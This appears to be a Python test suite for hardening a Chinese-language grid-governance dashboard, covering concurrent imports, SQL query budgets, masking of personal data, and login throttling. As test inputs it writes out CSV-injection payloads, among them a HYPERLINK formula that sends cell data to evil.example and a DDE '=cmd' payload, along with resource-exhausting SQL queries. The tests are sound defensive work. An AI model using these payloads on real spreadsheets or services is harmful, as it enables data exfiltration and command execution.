"""Hardening (issue 14): what a hostile or careless user sends must not take the service down, leak, or corrupt;
imports run while the dashboard serves. Every test here failed before its fix."""
from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from data import storefile, store
from tests import fixtures

ROOT = Path(__file__).resolve().parent.parent


def _cli(*args, **kw):
    return subprocess.run([sys.executable, str(ROOT / "cli.py"), *map(str, args)], capture_output=True, text=True,
                          cwd=ROOT, **kw)


def _count(db, table):
    con = storefile.open_reader(db)
    try:
        return con.execute(f"select count(*) from {table}").fetchall()[0][0]
    finally:
        con.close()


# --------------------------------------------------------------------------------------------- 2. imports while serving

READER = textwrap.dedent("""
    import sys, time
    sys.path.insert(0, {root!r})
    from data import storefile
    con = storefile.open_reader({db!r})
    cur = con.cursor()
    print('open', cur.execute('select count(*) from workers').fetchall()[0][0], flush=True)
    sys.stdin.readline()                      # hold the store open until told
    print('same', cur.execute('select count(*) from workers').fetchall()[0][0], flush=True)
    fresh = storefile.open_reader({db!r})
    print('fresh', fresh.execute('select count(*) from workers').fetchall()[0][0], flush=True)
""")


def test_import_succeeds_while_another_process_reads(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    reader = subprocess.Popen([sys.executable, "-c", READER.format(root=str(ROOT), db=str(db))],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert reader.stdout.readline().split() == ["open", "0"]
        out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
        assert out.returncode == 0, out.stderr
        assert "Traceback" not in out.stderr
        reader.stdin.write("\n")
        reader.stdin.flush()
        # the running reader finishes on the file it had; a new open sees the import
        assert reader.stdout.readline().split() == ["same", "0"]
        assert reader.stdout.readline().split() == ["fresh", "3"]
    finally:
        reader.kill()
        reader.wait()
    assert _count(db, "workers") == 3
    assert not list(tmp_path.glob("s.duckdb.import-*")) and not list(tmp_path.glob(".s.duckdb.reader-*"))


HOLDER = textwrap.dedent("""
    import sys
    sys.path.insert(0, {root!r})
    from data import storefile
    with storefile.writing({db!r}) as w:
        print('holding', flush=True)
        sys.stdin.readline()
        w.discard()
""")


def test_second_import_gets_a_chinese_message_and_its_own_exit_code(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db).st_mtime_ns
    holder = subprocess.Popen([sys.executable, "-c", HOLDER.format(root=str(ROOT), db=str(db))],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "holding"
        out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
        assert out.returncode == storefile.BUSY_EXIT == 3
        assert "Traceback" not in out.stderr and "另一个导入" in out.stderr
    finally:
        holder.stdin.write("\n")
        holder.stdin.flush()
        holder.wait()
    assert os.stat(db).st_mtime_ns == before
    assert _cli("ingest", "--db", db, "--kind", "workers", tmp_path / "w.csv").returncode == 0


def test_outside_writer_holding_the_file_is_busy_not_a_traceback(tmp_path):
    db = tmp_path / "s.duckdb"
    store.init(db)
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1]); "
                               "print('holding', flush=True); sys.stdin.readline()", str(db)],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=ROOT)
    try:
        assert holder.stdout.readline().strip() == "holding"
        out = _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv"))
        assert out.returncode == 3 and "Traceback" not in out.stderr and "数据库文件正被其他程序" in out.stderr
    finally:
        holder.stdin.write("\n")
        holder.stdin.flush()
        holder.wait()


def test_refused_import_leaves_the_store_file_untouched(tmp_path):
    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    before = os.stat(db)
    bad = fixtures.write("workers", tmp_path / "w.csv", rows=[{**fixtures.WORKERS[0], "grid_id": "G99"}])
    time.sleep(0.01)
    assert _cli("ingest", "--db", db, "--kind", "workers", bad).returncode == 1
    after = os.stat(db)
    assert (after.st_ino, after.st_mtime_ns, after.st_size) == (before.st_ino, before.st_mtime_ns, before.st_size)


def test_dashboard_sees_an_import_at_the_next_query(tmp_path, monkeypatch):
    from ui import conn

    db = tmp_path / "s.duckdb"
    monkeypatch.setenv("GRIDGOV_DB", str(db))
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    held = conn.cursor()                     # a query in flight on the old file
    assert held.execute("select count(*) from workers").fetchall()[0][0] == 0
    out = _cli("ingest", "--db", db, "--kind", "workers", fixtures.write("workers", tmp_path / "w.csv"))
    assert out.returncode == 0, out.stderr
    assert conn.cursor().execute("select count(*) from workers").fetchall()[0][0] == 3
    assert held.execute("select count(*) from workers").fetchall()[0][0] == 0


# --------------------------------------------------------------------------------------------- 1. SQL tab budget

def _staff():
    from access import accounts

    return accounts.user_of(accounts.load(), "dongguan")


def _rss_mb() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) / 1024
    return 0.0


@pytest.mark.parametrize("sql,reason", [
    # the memory hog: 100 M list items (≈ 800 MB) — refused by the worker's memory budget in ≈ 1 s
    ("select count(*) from (select unnest(range(100000000)))", "内存超过上限"),
    # a long IN list (1 M items in the issue, 3,000 here): refused before anything parses it
    ("select count(*) from events where event_id in (" + ",".join(f"'E{i:07d}'" for i in range(3000)) + ")",
     "查询语句过长"),
    # 400 nested subqueries: a RecursionError on the page before
    ("select * from " + "(select * from " * 399 + "events" + ") t" * 399, "嵌套层数过多"),
])
def test_sql_budget_refuses_hostile_queries_quickly(demo_db, sql, reason):
    from metrics import explore

    rss0, t0 = _rss_mb(), time.monotonic()
    with pytest.raises(explore.QueryRefused) as e:
        explore.run_sql(demo_db, sql, user=_staff())
    assert reason in str(e.value)
    assert time.monotonic() - t0 < 12
    assert _rss_mb() - rss0 < 200            # the work happened in the worker, not in this (the server's) process


def test_sql_budget_wall_clock_kills_the_worker(demo_db):
    """The parent's kill covers everything the worker does, parsing included: no start-up grace, 0.2 s."""
    from access import sqlworker

    t0 = time.monotonic()
    with pytest.raises(sqlworker.Refused) as e:
        sqlworker.run(demo_db, "select count(*) from events", _staff(), seconds=0.2, budget={"startup_grace": 0})
    assert "已中止" in str(e.value) and time.monotonic() - t0 < 3


def test_sql_budget_caps_the_result_size(demo_db):
    from access import sqlworker

    with pytest.raises(sqlworker.Refused) as e:
        sqlworker.run(demo_db, "select * from events", _staff(), budget={"result_mb": 0.01})
    assert "结果过大" in str(e.value)


def test_sql_budget_still_answers_ordinary_queries(demo_db):
    from metrics import explore

    df, truncated = explore.run_sql(demo_db, "select count(*) as n from events e join grids g using (grid_id) "
                                             "where g.street = '中街街道'", user=_staff())
    assert df["n"].tolist() == [0] and not truncated          # scoped: 东关 staff see no 中街 events


# --------------------------------------------------------------------------------------------- 5. statistics functions

def test_stats_function_is_refused_for_street_staff(demo_db):
    from metrics import explore

    with pytest.raises(explore.QueryRefused) as e:
        explore.run_sql(demo_db, "select stats(amount_yuan) from relief", user=_staff())
    assert "不允许使用 stats" in str(e.value)


# --------------------------------------------------------------------------------------------- 3. exports

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_exports_neutralise_formula_cells(tmp_path):
    import io

    import openpyxl
    import pandas as pd

    from ui.export import to_csv, to_xlsx

    df = pd.DataFrame({"描述": FORMULAS + ["正常文字"], "金额": [-5.0, 1, 2, 3, 4, 5, 6, 7],
                       "=危险列名": ["x"] * 8})
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, "明细"))).active
    assert [c.value for c in ws[1]] == ["描述", "金额", "'=危险列名"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 10)]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value[:2] for c in cells[:5]] == ["'=", "'=", "'+", "'-", "'@"]
    assert cells[5].value.startswith("'\t") and cells[6].value.startswith("'") and cells[7].value == "正常文字"
    assert ws.cell(row=2, column=2).value == -5 and ws.cell(row=2, column=2).data_type == "n"   # numbers stay numbers
    (tmp_path / "x.csv").write_bytes(to_csv(df))
    back = pd.read_csv(tmp_path / "x.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert all(v.startswith("'") for v in back["描述"][:7]) and back["描述"][7] == "正常文字"
    assert back.columns[2] == "'=危险列名"


def test_import_problem_list_neutralises_formulas(tmp_path):
    import pandas as pd

    db = tmp_path / "s.duckdb"
    assert _cli("ingest", "--db", db, "--kind", "grids", fixtures.write("grids", tmp_path / "g.csv")).returncode == 0
    bad = fixtures.write("workers", tmp_path / "w.csv", rows=[{**fixtures.WORKERS[0], "grid_id": "=cmd|' /C calc'!A0"}])
    assert _cli("ingest", "--db", db, "--kind", "workers", bad, "--report", tmp_path / "r.csv").returncode == 1
    report = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig", dtype=str)
    assert report["值"].tolist() == ["'=cmd|' /C calc'!A0"]


# --------------------------------------------------------------------------------------------- 4. masking

MASK_CASES = [
    ("电话13812345678", "电话138****5678"),
    ("电话138-1234-5678", "电话138****5678"),
    ("电话138 1234 5678", "电话138****5678"),
    ("电话１３８１２３４５６７８", "电话138****5678"),
    ("电话+86-138-1234-5678", "电话138****5678"),
    ("电话+86 13812345678", "电话138****5678"),
    ("身份证620802199001011234", "身份证6208**********1234"),
    ("身份证620802 19900101 1234", "身份证6208**********1234"),
    ("身份证62080219900101123X", "身份证6208**********123X"),
    ("身份证６２０８０２１９９００１０１１２３ｘ", "身份证6208**********123x"),
    ("老身份证620802900101123", "老身份证6208********123"),
    ("座机0933-8212345", "座机0933-****2345"),
    ("座机(0933)8212345", "座机0933-****2345"),
    ("座机010-12345678", "座机010-****5678"),
    ("3号楼2单元，2025-09-01发现", "3号楼2单元，2025-09-01发现"),
]


@pytest.fixture
def masked_store(tmp_path):
    """A store whose event descriptions are the real formats above, one event each, all in 东关 (grid G01)."""
    db = tmp_path / "m.duckdb"
    rows = [{**fixtures.EVENTS[0], "event_id": f"M{i:02d}", "description": text} for i, (text, _) in
            enumerate(MASK_CASES)]
    for kind, r in (("grids", None), ("workers", None), ("events", rows)):
        out = _cli("ingest", "--db", db, "--kind", kind, fixtures.write(kind, tmp_path / f"{kind}.csv", rows=r))
        assert out.returncode == 0, out.stderr
    return db


def test_free_text_masking_in_every_output_path(masked_store):
    import io
    from datetime import date

    import pandas as pd

    from metrics import explore
    from metrics.compute import Filters
    from ui.export import to_csv, to_xlsx

    expected = [m for _, m in MASK_CASES]
    staff = _staff()
    df, _ = explore.run_sql(masked_store, "select description from events order by event_id", user=staff)
    assert df["description"].tolist() == expected                         # the SQL tab
    con = storefile.open_reader(masked_store)
    recs, _ = explore.records(con, "events", Filters(date(2025, 1, 1), date(2025, 12, 31), scope=staff.scope),
                              personal="masked", limit=100)
    con.close()
    got = recs.sort_values("event_id")["description"].tolist()
    assert got == expected                                                # the explorer's record list
    back = pd.read_excel(io.BytesIO(to_xlsx(recs, "明细")), dtype=str).sort_values("event_id")
    assert back["description"].tolist() == expected                      # its Excel export
    back = pd.read_csv(io.BytesIO(to_csv(recs)), encoding="utf-8-sig", dtype=str).sort_values("event_id")
    assert back["description"].tolist() == expected                      # its CSV export


# --------------------------------------------------------------------------------------------- 6, 7. login

def _cfg(tmp_path, demo_mode: bool):
    from access import accounts

    text = (ROOT / "data" / "accounts.toml").read_text(encoding="utf-8")
    text = text.replace("demo_mode = true", f"demo_mode = {'true' if demo_mode else 'false'}")
    p = tmp_path / "accounts.toml"
    p.write_text(text, encoding="utf-8")
    return accounts.load(p), p


def test_demo_accounts_do_not_log_in_outside_demo_mode(tmp_path, demo_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from access import accounts

    cfg, path = _cfg(tmp_path, demo_mode=False)
    assert accounts.verify(cfg, "admin", cfg.demo_passwords["admin"]) is None
    (tmp_path / "on").mkdir()
    on, _ = _cfg(tmp_path / "on", demo_mode=True)
    assert accounts.verify(on, "admin", on.demo_passwords["admin"]) is not None
    monkeypatch.setenv("GRIDGOV_ACCOUNTS", str(path))
    monkeypatch.setenv("GRIDGOV_DB", str(demo_db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.text_input(key="login_user").set_value("admin")
    at.text_input(key="login_password").set_value(cfg.demo_passwords["admin"])
    at.button[0].click().run()
    assert any("演示模式已关闭" in w.value for w in at.warning) and not at.metric
    assert not any("admin-demo" in str(d.value.to_csv()) for d in at.dataframe)     # passwords not printed


def test_login_throttled_per_client_across_accounts(tmp_path):
    from access import accounts, audit

    cfg, _ = _cfg(tmp_path, demo_mode=True)
    db = tmp_path / "s.duckdb"
    names = list(cfg.accounts)
    tries = 0
    while tries < cfg.client_max_failures:                 # a few wrong guesses on every account, from one client
        for u in names:
            assert accounts.throttled(cfg, u, "10.0.0.9", store_path=db) is None
            audit.record("login_failed", u, None, {"client": "10.0.0.9"}, False, store_path=db)
            tries += 1
            if tries == cfg.client_max_failures:
                break
    assert "本机登录失败次数过多" in accounts.throttled(cfg, "analyst", "10.0.0.9", store_path=db)
    assert accounts.throttled(cfg, "analyst", "10.0.0.7", store_path=db) is None     # others are not affected


def test_nobody_can_lock_the_admin_out_for_good(tmp_path):
    from access import accounts, audit

    cfg, _ = _cfg(tmp_path, demo_mode=True)
    db = tmp_path / "s.duckdb"
    for i in range(cfg.account_max_failures):               # an attacker on many addresses
        audit.record("login_failed", "admin", None, {"client": f"10.1.{i // 4}.{i}"}, False, store_path=db)
    assert "python cli.py unlock --user admin" in accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db)
    out = _cli("unlock", "--user", "admin", "--db", db)
    assert out.returncode == 0 and "已解除" in out.stdout
    assert accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db) is None      # the admin's own machine
    for _ in range(cfg.max_failures):                         # the attacker goes on: only their client is held
        audit.record("login_failed", "admin", None, {"client": "10.9.9.9"}, False, store_path=db)
    assert "已临时锁定" in accounts.throttled(cfg, "admin", "10.9.9.9", store_path=db)
    assert accounts.throttled(cfg, "admin", "192.168.1.5", store_path=db) is None
    assert _cli("unlock", "--user", "nobody", "--db", db).returncode == 2
